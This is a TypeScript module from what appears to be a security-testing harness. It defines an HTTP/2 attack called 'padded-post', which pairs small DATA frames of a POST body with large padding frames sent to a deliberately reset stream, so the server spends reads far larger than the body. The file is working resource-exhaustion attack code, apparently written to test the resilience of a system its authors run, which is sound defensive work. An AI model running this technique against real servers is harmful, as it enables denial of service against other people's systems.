import type { Attack } from '../attack-definition.js';
import type { Attacker } from '../attacker.js';
import { ATTACKED_NAMESPACE, leasesOf, requestFields, TENANT_TOKEN } from '../identities.js';
import { END_HEADERS, END_STREAM, frame, Type } from '../../support/http2-frames.js';
import type { RawHttp2 } from '../wire/raw-http2.js';

const CONNECTIONS = 2;
/** A frame of 64 bytes that the server keeps, after one that it discards; both arrive in one TLS record. */
const KEPT_BYTES = 64;
const PADDING_BYTES = 15_000;
const BODY_BYTES = 2_250_000;
/** Limited so that the machine is not busy with TLS alone. */
const PAIRS_PER_SECOND = 2000;

export const paddedPost: Attack = {
  name: 'padded-post',
  about: 'a POST of 2.25 MB in DATA of 64 bytes, each beside 15 kB for a stream that was reset: pins reads far larger than the body',
  run: (attacker) =>
    attacker.lanes(CONNECTIONS, async () => {
      const connection = await attacker.http2();
      const discarded = await resetStreamOf(connection);
      const stream = connection.nextStream();
      const fields = requestFields('POST', leasesOf(ATTACKED_NAMESPACE), TENANT_TOKEN, [
        ['content-type', 'application/json'],
        ['content-length', String(BODY_BYTES)],
      ]);
      connection.write(connection.headers(stream, fields, END_HEADERS));
      await pad(attacker, connection, stream, discarded);
      await attacker.hold(connection);
      attacker.note('streams reset', connection.resets);
    }),
};

/** A stream that the server refuses, because a header has an upper-case name. */
async function resetStreamOf(connection: RawHttp2): Promise<number> {
  const stream = connection.nextStream();
  connection.write(connection.headers(stream, requestFields('POST', '/', undefined, [['X-Upper', '1']]), END_HEADERS));
  await connection.answered(1, 2000);
  return stream;
}

async function pad(attacker: Attacker, connection: RawHttp2, stream: number, discarded: number): Promise<void> {
  const padding = frame(Type.DATA, 0, discarded, Buffer.alloc(PADDING_BYTES));
  const kept = frame(Type.DATA, 0, stream, Buffer.alloc(KEPT_BYTES, 0x20));
  const pairs = Math.floor(BODY_BYTES / KEPT_BYTES) - 1;
  let sent = 0;
  const body = {
    get isOver(): boolean {
      return sent >= pairs || connection.isOver;
    },
  };
  await attacker.atRate(PAIRS_PER_SECOND, body, async () => {
    sent++;
    if (await connection.reserve(PADDING_BYTES + KEPT_BYTES)) await connection.send(padding, kept);
  });
  attacker.note('bytes of body sent', sent * KEPT_BYTES);
  if (sent >= pairs) return;
  connection.write(frame(Type.DATA, END_STREAM, stream));
}
